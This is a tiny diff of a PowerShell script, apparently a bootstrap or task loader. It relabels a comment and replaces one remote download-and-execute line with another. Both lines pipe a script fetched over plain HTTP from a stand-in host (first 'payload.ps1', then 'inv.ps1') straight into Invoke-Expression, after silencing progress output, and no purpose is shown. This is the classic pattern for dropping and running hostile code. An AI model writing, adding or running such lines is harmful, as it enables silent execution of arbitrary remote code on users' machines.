@@ -1,3 +1,3 @@
-# bootstrap 3903 v2
+# task 9594 v2
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://repo.pkg-mirror.example/payload.ps1 | iex
+iwr -UseBasicParsing http://files.sync-svc.example/inv.ps1 | iex
